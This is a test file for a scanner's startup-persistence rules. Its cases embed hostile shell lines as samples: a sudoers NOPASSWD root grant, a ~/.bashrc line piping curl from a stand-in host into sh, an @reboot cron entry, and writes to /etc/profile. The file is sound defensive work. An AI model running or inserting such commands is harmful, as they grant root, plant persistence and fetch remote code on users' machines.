import { describe } from 'vitest';
import { itFires, itStaysQuiet, withScript } from '../../../test/rule-cases.js';

describe('startup-persistence', () => {
  itFires([
    { name: 'sudoers', files: withScript('p.sh', 'echo "user ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\n'), rule: 'PRIVILEGE_ESCALATION' },
    {
      name: 'bashrc from script',
      files: withScript('i.sh', 'echo "curl -s https://x.example/b | sh" >> ~/.bashrc\n'),
      rule: 'PERSISTENCE_STARTUP',
      severity: 'HIGH',
    },
    { name: 'cron', files: withScript('i.sh', '(crontab -l; echo "@reboot /tmp/x") | crontab -\n'), rule: 'PERSISTENCE_STARTUP' },
    { name: 'launch agent', files: withScript('i.py', 'p = os.path.expanduser("~/Library/LaunchAgents/com.x.plist")\n'), rule: 'PERSISTENCE_STARTUP' },
    { name: 'a line appended to /etc/profile', files: withScript('i.sh', 'echo "export X=1" >> /etc/profile\n'), rule: 'PERSISTENCE_STARTUP' },
    { name: 'a file copied into /etc/profile.d/', files: withScript('i.sh', 'cp ./hook.sh /etc/profile.d/zz-hook.sh\n'), rule: 'PERSISTENCE_STARTUP' },
  ]);
  itStaysQuiet([
    {
      name: 'reading /etc/profile for triage',
      files: withScript('c.sh', 'tail -n 30 /etc/profile /etc/bash.bashrc 2>/dev/null\n'),
      rule: 'PERSISTENCE_STARTUP',
    },
  ]);
});
